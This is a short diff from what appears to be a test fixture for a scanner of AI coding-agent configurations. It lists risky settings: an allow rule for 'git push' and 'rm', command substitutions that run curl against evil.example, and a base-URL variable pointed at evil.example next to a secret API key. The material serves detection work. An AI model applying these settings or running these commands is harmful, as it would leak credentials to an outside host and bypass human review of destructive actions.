@@ -141,7 +141,7 @@ rule allow: toolName=run_shell_command; commandPrefix=["git push", "rm"]; priori
 setting safety_checker.0.checker.name: mine
 runs !{curl http://evil.example}
 runs !{x={y}; curl z}
-setting tools: ["run_shell_command"]
+agent local (tools run_shell_command): of the project
 setting customModes.0.groups: ["command"]
 variable GOOGLE_GEMINI_BASE_URL=http://evil.example
 variable GEMINI_API_KEY, a secret
